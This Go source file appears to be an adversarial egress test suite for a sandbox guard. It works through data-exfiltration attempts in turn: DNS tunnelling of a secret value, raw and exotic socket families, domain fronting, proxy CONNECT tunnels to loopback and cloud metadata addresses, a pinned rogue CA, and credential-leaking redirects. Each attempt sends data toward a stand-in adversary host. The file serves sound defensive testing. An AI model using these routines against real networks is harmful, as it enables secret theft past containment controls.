package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

const (
	claimProxy     = "An adversary who unsets the proxy variables"
	claimFamilies  = "An adversary who opens raw, packet, vsock, UDP, SCTP or MPTCP sockets"
	claimDNS       = "An adversary who asks DNS for a name that holds a secret"
	claimNames     = "An adversary who connects to a public name that holds a known value"
	claimLoopback  = "An adversary who connects to the host's loopback, a private network or a cloud's metadata service"
	claimFronting  = "An adversary who asks over plain HTTP, or with another name in SNI, Host or :authority"
	claimCA        = "An adversary who stands between guard and the upstream"
	claimProxyPort = "An adversary who takes the proxy's port inside"
)

// families are sockets that no session has. Those that the kernel lacks are not tried.
var families = []struct {
	name          string
	fam, typ, pro int
}{
	{"raw", unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW}, {"icmp-raw", unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP}, {"icmp6-raw", unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6},
	{"packet", unix.AF_PACKET, unix.SOCK_RAW, 0x300}, {"sctp", unix.AF_INET, unix.SOCK_STREAM, 132}, {"mptcp", unix.AF_INET, unix.SOCK_STREAM, 262},
	{"dccp", unix.AF_INET, unix.SOCK_DCCP, 33}, {"udplite", unix.AF_INET, unix.SOCK_DGRAM, 136}, {"vsock", unix.AF_VSOCK, unix.SOCK_STREAM, 0},
	{"af-alg", unix.AF_ALG, unix.SOCK_SEQPACKET, 0}, {"tipc", unix.AF_TIPC, unix.SOCK_STREAM, 0}, {"xdp", unix.AF_XDP, unix.SOCK_RAW, 0}, {"smc", unix.AF_SMC, unix.SOCK_STREAM, 0},
	{"bluetooth", unix.AF_BLUETOOTH, unix.SOCK_RAW, 1}, {"can", unix.AF_CAN, unix.SOCK_RAW, 1}, {"rds", unix.AF_RDS, unix.SOCK_SEQPACKET, 0},
}

func openSocket(fam, typ, pro int) error {
	fd, err := unix.Socket(fam, typ|unix.SOCK_CLOEXEC, pro)
	if err == nil {
		unix.Close(fd)
	}
	return err
}

func networkCases() []Case {
	c := func(name, claim string, try func(in *inside) got, judge func(*world, got) got) Case {
		return Case{Name: name, Group: "network", Claim: claim, try: try, judge: judge}
	}
	all := []Case{
		c("tcp-loopback", claimLoopback, func(in *inside) got {
			return in.throw("tcp", fmt.Sprintf("127.0.0.1:%d", in.AttackerPort), "tcp-loopback")
		}, gotNothing("tcp-loopback")),
		c("tcp-address", claimProxy, func(in *inside) got {
			if !in.contained() {
				return skip("a packet could leave this machine")
			}
			for _, a := range []string{"203.0.113.7:443", "203.0.113.7:4444", "[2001:db8::7]:443", "10.1.2.3:5432", "192.168.1.1:22"} {
				if reply, err := in.raw(a, "tcp-address"); err == nil && strings.Contains(reply, "HTTP/1.1 200") {
					return broke("%s answered", a)
				}
			}
			return held("addresses lead to guard, which lets none of them out")
		}, gotNothing("tcp-address")),
		c("udp", claimFamilies, func(in *inside) got {
			g := in.datagram(fmt.Sprintf("127.0.0.1:%d", in.UDPPort))
			if in.contained() && g.Result == Held {
				g = in.datagram("203.0.113.7:443")
			}
			return g
		}, func(w *world, g got) got {
			if w.datagrams.Load() > 0 {
				return broke("a datagram arrived outside")
			}
			return g
		}),
		c("icmp-datagram", claimFamilies, func(in *inside) got {
			if !in.contained() {
				if in.Boundary == "landlock" {
					return refused("an ICMP socket", openSocket(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP))
				}
				return skip("a packet could leave this machine")
			}
			links, err := net.Interfaces()
			for _, l := range links {
				if l.Flags&net.FlagLoopback == 0 {
					return broke("the session has the interface %s", l.Name)
				}
			}
			return held("lo is the only interface (%v): an echo comes from the session itself", err)
		}, nil),
		c("interfaces", claimFamilies, (*inside).changeInterface, nil),
		c("dns-tunnel", claimDNS, func(in *inside) got {
			if !in.contained() {
				return skip("a query could leave this machine")
			}
			name := hex.EncodeToString(in.value())[:40] + "." + in.AttackerHost
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
			defer cancel()
			ips, err := net.DefaultResolver.LookupNetIP(ctx, "ip", name)
			for _, ip := range ips {
				if s := ip.Unmap().String(); !strings.HasPrefix(s, "198.18.") && !strings.HasPrefix(s, "198.19.") && !strings.HasPrefix(s, "fd") {
					return broke("a name was resolved for real")
				}
			}
			txt, _ := net.DefaultResolver.LookupTXT(ctx, name)
			if len(txt) > 0 {
				return broke("TXT records came")
			}
			return held("guard answers with addresses of its own (%d, %v)", len(ips), err)
		}, nil),
		c("name-with-value", claimNames, func(in *inside) got {
			if !in.contained() {
				return skip("a query could leave this machine")
			}
			status := 0
			for _, name := range []string{strings.ReplaceAll(strings.ToLower(string(in.value())), "_", "") + ".example.net", hex.EncodeToString(in.value())[:40] + "." + hex.EncodeToString(in.value())[40:] + ".example.net"} {
				resp, err := in.client4("name", name).Get("https://" + name + "/")
				if err == nil {
					status = resp.StatusCode
					resp.Body.Close()
					if status != http.StatusForbidden {
						return broke("guard answered with status %d", status)
					}
				}
			}
			return held("refused before the name is resolved (status %d)", status)
		}, nil),
		c("proxy-unset", claimProxy, func(in *inside) got {
			for _, k := range []string{"HTTPS_PROXY", "HTTP_PROXY", "ALL_PROXY", "https_proxy", "http_proxy", "all_proxy"} {
				defer os.Setenv(k, os.Getenv(k))
				os.Unsetenv(k)
			}
			return in.post("proxy-unset", in.value(), nil, "direct")
		}, noValue("proxy-unset")),
		c("own-ca", claimCA, func(in *inside) got {
			// A client that trusts the adversary's authority alone, as with a pinned store.
			roots := x509.NewCertPool()
			roots.AppendCertsFromPEM([]byte(in.AttackerCA))
			var last error
			for _, way := range in.ways("direct") {
				conn, err := in.connect(way, in.AttackerHost)
				if err != nil {
					last = err
					continue
				}
				t := tls.Client(conn, &tls.Config{ServerName: in.AttackerHost, RootCAs: roots})
				_ = t.SetDeadline(time.Now().Add(2 * time.Second))
				if err = t.Handshake(); err == nil {
					fmt.Fprintf(t, "GET /a/own-ca HTTP/1.1\r\nHost: %s\r\nX-Value: %s\r\n\r\n", in.AttackerHost, in.value())
					_, _ = bufio.NewReader(t).ReadString('\n')
					t.Close()
					return broke("a TLS connection from end to end, which nobody can look into")
				}
				conn.Close()
				last = err
			}
			return held("no TLS but to guard's certificate: %v", last)
		}, gotNothing("own-ca")),
		c("fronting", claimFronting, func(in *inside) got {
			return in.front("fronting", in.AttackerHost, in.APIHost)
		}, func(w *world, g got) got {
			if w.attackerHas("fronting", w.values["allowed"]) {
				return broke("the adversary's server got the value")
			}
			return g
		}),
		c("fronting-host", claimFronting, func(in *inside) got {
			return in.front("fronting-host", in.APIHost, in.AttackerHost)
		}, func(w *world, g got) got {
			if w.attackerHas("fronting-host", w.values["allowed"]) || w.apiHas("fronting-host") {
				return broke("a request for one host went to the other")
			}
			return g
		}),
		c("plain-http", claimFronting, func(in *inside) got {
			if in.Boundary == "none" {
				return skip("a packet could leave this machine")
			}
			status := "no answer"
			for _, way := range in.ways("") {
				if way == "loopback" {
					continue
				}
				conn, err := in.connectPort(way, in.APIHost, 80)
				if err != nil {
					status = err.Error()
					continue
				}
				_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
				fmt.Fprintf(conn, "GET /a/plain-http HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n", in.APIHost, in.Placeholder)
				line, _ := bufio.NewReader(conn).ReadString('\n')
				conn.Close()
				if status = strings.TrimSpace(line); strings.Contains(line, " 2") {
					return broke("answered with %q", status)
				}
			}
			return held("answered with %q", status)
		}, nil),
		c("redirect", claimElsewhere, func(in *inside) got {
			var status int
			for _, way := range in.ways("") {
				if way == "loopback" {
					continue
				}
				client := in.clientFor(way)
				client.CheckRedirect = func(r *http.Request, via []*http.Request) error {
					r.Header.Set("Authorization", "Bearer "+in.Placeholder) // as careless clients do
					return nil
				}
				req, _ := http.NewRequest("GET", "https://"+in.APIHost+"/redirect/redirect", nil)
				req.Header.Set("Authorization", "Bearer "+in.Placeholder)
				resp, err := client.Do(req)
				if err == nil {
					status = resp.StatusCode
					resp.Body.Close()
				}
			}
			return held("followed to the adversary's host (status %d)", status)
		}, func(w *world, g got) got {
			if w.attackerHas("redirect", w.values["allowed"]) {
				return broke("the adversary's server got the value")
			}
			return g
		}),
		c("proxy-loopback", claimLoopback, func(in *inside) got {
			return in.throughProxy(fmt.Sprintf("127.0.0.1:%d", in.AttackerPort), fmt.Sprintf("localhost:%d", in.AttackerPort), fmt.Sprintf("[::ffff:127.0.0.1]:%d", in.AttackerPort), fmt.Sprintf("0.0.0.0:%d", in.AttackerPort), fmt.Sprintf("2130706433:%d", in.AttackerPort))
		}, gotNothing("proxy-loopback")),
		c("metadata", claimLoopback, func(in *inside) got {
			if in.Boundary == "none" {
				return skip("a packet could leave this machine")
			}
			return in.throughProxy("169.254.169.254:80", "[fd00:ec2::254]:80", "metadata.google.internal:80", "100.100.100.200:80")
		}, nil),
		c("rebinding", claimLoopback, func(in *inside) got {
			return skip("it needs a name server that answers with your addresses; broker/egress_test.go has one")
		}, nil),
		c("proxy-port", claimProxyPort, func(in *inside) got {
			if !in.contained() {
				return skip("there is no such port in this tier")
			}
			l, err := net.Listen("tcp", "127.0.0.1:3128")
			if err == nil {
				l.Close()
			}
			return refused("listen on the proxy's port", err)
		}, nil),
	}
	for _, f := range families {
		all = append(all, c("socket-"+f.name, claimFamilies, func(in *inside) got {
			if in.Lacks[f.name] {
				return skip("this kernel has no such socket")
			}
			return refused("open it", openSocket(f.fam, f.typ, f.pro))
		}, nil))
	}
	return all
}

// gotNothing is held when the adversary's server got nothing at all by a case.
func gotNothing(name string) func(*world, got) got {
	return func(w *world, g got) got {
		if w.attackerGot(name) {
			return broke("the adversary's server got it")
		}
		return g
	}
}

// noValue is held when the adversary's server did not get the stored value by a case.
func noValue(name string) func(*world, got) got {
	return func(w *world, g got) got {
		if w.attackerHas(name, w.values["stored"]) {
			return broke("the adversary's server got the value")
		}
		return g
	}
}

// ways are how the adversary's server could be reached: by its name, where names are
// guard's to answer, by the loopback, and by the proxy that the variables name. A
// kind of "direct" leaves the proxy out.
func (in *inside) ways(kind string) []string {
	ways := []string{"loopback"}
	if in.contained() {
		ways = append(ways, "name")
	} else if kind != "direct" && os.Getenv("HTTPS_PROXY") != "" {
		ways = append(ways, "proxy")
	}
	return ways
}

// connect makes a connection towards host's port 443.
func (in *inside) connect(way, host string) (net.Conn, error) { return in.connectPort(way, host, 443) }

func (in *inside) connectPort(way, host string, port int) (net.Conn, error) {
	addr := fmt.Sprintf("%s:%d", host, port)
	switch way {
	case "loopback":
		return dial("tcp", fmt.Sprintf("127.0.0.1:%d", in.AttackerPort))
	case "name":
		return dial("tcp", addr)
	}
	return in.tunnel(addr)
}

// tunnel asks the proxy of the variables for a connection.
func (in *inside) tunnel(addr string) (net.Conn, error) {
	proxy, err := url.Parse(os.Getenv("HTTPS_PROXY"))
	if err != nil || proxy.Host == "" {
		return nil, errors.New("no proxy is named")
	}
	c, err := dial("tcp", proxy.Host)
	if err != nil {
		return nil, err
	}
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	r := &http.Request{Method: "CONNECT", URL: &url.URL{Opaque: addr}, Host: addr, Header: http.Header{}}
	if pw, ok := proxy.User.Password(); ok {
		r.SetBasicAuth(proxy.User.Username(), pw)
		r.Header.Set("Proxy-Authorization", r.Header.Get("Authorization"))
		r.Header.Del("Authorization")
	}
	if err := r.Write(c); err != nil {
		c.Close()
		return nil, err
	}
	resp, err := http.ReadResponse(bufio.NewReader(io.LimitReader(c, 1<<16)), r)
	if err != nil {
		c.Close()
		return nil, err
	}
	if resp.StatusCode != 200 {
		c.Close()
		return nil, fmt.Errorf("the proxy says %d", resp.StatusCode)
	}
	_ = c.SetDeadline(time.Time{})
	return c, nil
}

// clientFor is an HTTPS client that trusts whoever answers.
func (in *inside) clientFor(way string) *http.Client { return in.client4(way, "") }

func (in *inside) client4(way, name string) *http.Client {
	return &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{
		DisableKeepAlives: true, DisableCompression: true,
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
		DialContext: func(_ context.Context, _, addr string) (net.Conn, error) {
			host, _, _ := net.SplitHostPort(addr)
			if name != "" {
				host = name
			}
			return in.connect(way, host)
		},
	}}
}

// post sends body to the adversary's server in every way that there is. change may
// change the request.
func (in *inside) post(name string, body []byte, change func(r *http.Request), kind string) got {
	var why []string
	for _, way := range in.ways(kind) {
		r, err := http.NewRequest("POST", "https://"+in.AttackerHost+"/a/"+name, bytes.NewReader(body))
		if err != nil {
			return skip("%v", err)
		}
		r.Header.Set("Content-Type", "application/octet-stream")
		if change != nil {
			change(r)
		}
		resp, err := in.clientFor(way).Do(r)
		if err != nil {
			why = append(why, way+": not reached")
			continue
		}
		_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 1<<16))
		resp.Body.Close()
		why = append(why, fmt.Sprintf("%s: status %d", way, resp.StatusCode))
	}
	return held("%s", strings.Join(why, ", "))
}

// front says one name in TLS and another one in the request.
func (in *inside) front(name, sni, host string) got {
	status := "no answer"
	for _, way := range in.ways("") {
		if way == "loopback" {
			continue
		}
		conn, err := in.connect(way, sni)
		if err != nil {
			continue
		}
		t := tls.Client(conn, &tls.Config{ServerName: sni, InsecureSkipVerify: true})
		_ = t.SetDeadline(time.Now().Add(3 * time.Second))
		fmt.Fprintf(t, "GET /a/%s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n", name, host, in.Placeholder)
		if line, err := bufio.NewReader(t).ReadString('\n'); err == nil {
			status = strings.TrimSpace(line)
		}
		t.Close()
	}
	return held("answered with %q", status)
}

// throw sends the value to an address by TLS, as to the adversary's own server.
func (in *inside) throw(network, addr, name string) got {
	c, err := dial(network, addr)
	if err != nil {
		return held("%v", err)
	}
	defer c.Close()
	t := tls.Client(c, &tls.Config{ServerName: in.AttackerHost, InsecureSkipVerify: true})
	_ = t.SetDeadline(time.Now().Add(2 * time.Second))
	fmt.Fprintf(t, "GET /a/%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", name, in.AttackerHost)
	_, err = bufio.NewReader(t).ReadString('\n')
	return held("connected, and then: %v", err)
}

// raw sends a line to addr, and returns what comes.
func (in *inside) raw(addr, name string) (string, error) {
	c, err := dial("tcp", addr)
	if err != nil {
		return "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(time.Second))
	fmt.Fprintf(c, "SEND %s %x\n", name, in.value())
	if t, ok := c.(*net.TCPConn); ok {
		_ = t.CloseWrite()
	}
	b, err := io.ReadAll(io.LimitReader(c, 1<<12))
	return string(b), err
}

func (in *inside) datagram(addr string) got {
	c, err := net.Dial("udp", addr)
	if err != nil {
		return held("%v", err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(300 * time.Millisecond))
	for range 2 {
		if _, err = c.Write(in.value()); err != nil {
			break
		}
		_, err = c.Read(make([]byte, 10))
	}
	return held("sent to %s: %v", addr, err)
}

// throughProxy asks the proxy for what it must not open.
func (in *inside) throughProxy(addrs ...string) got {
	if os.Getenv("HTTPS_PROXY") == "" {
		return skip("no proxy is named in this tier")
	}
	var last error
	for _, a := range addrs {
		c, err := in.tunnel(a)
		if err != nil {
			last = err
			continue
		}
		_ = c.SetDeadline(time.Now().Add(2 * time.Second))
		var rw io.ReadWriter = c
		if !strings.HasSuffix(a, ":80") {
			rw = tls.Client(c, &tls.Config{InsecureSkipVerify: true})
		}
		fmt.Fprintf(rw, "GET /a/proxy-loopback HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", a)
		line, rerr := bufio.NewReader(rw).ReadString('\n')
		c.Close()
		if strings.Contains(line, " 200") {
			return broke("%s answered", a)
		}
		last = rerr
		if line != "" {
			last = errors.New(strings.TrimSpace(line))
		}
	}
	return held("refused: %v", last)
}

// changeInterface sets the flags of lo to what they are: who may, may do more.
func (in *inside) changeInterface() got {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return held("%v", err)
	}
	defer unix.Close(fd)
	var req struct {
		name  [16]byte
		flags uint16
		_     [22]byte
	}
	copy(req.name[:], "lo")
	if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.SIOCGIFFLAGS, uintptr(unsafe.Pointer(&req))); e != 0 {
		return skip("the flags of lo: %v", e)
	}
	if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.SIOCSIFFLAGS, uintptr(unsafe.Pointer(&req))); e != 0 {
		return held("change an interface: %v", e)
	}
	return broke("interfaces can be changed")
}
